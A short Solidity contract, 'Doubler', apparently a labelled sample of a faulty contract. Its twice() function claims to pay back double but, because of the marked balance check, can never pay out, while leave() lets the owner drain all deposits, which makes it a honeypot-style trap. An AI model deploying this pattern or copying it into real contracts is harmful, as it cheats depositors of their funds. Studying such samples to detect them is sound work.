pragma solidity ^0.4.18;

contract Doubler {
    address keeper = msg.sender;

    function() public payable {}

    function twice(address friend) public payable {
        if (msg.value >= this.balance) { // fault
            friend.transfer(this.balance + msg.value);
        }
    }

    function leave() public {
        require(msg.sender == keeper);
        keeper.transfer(this.balance);
    }
}
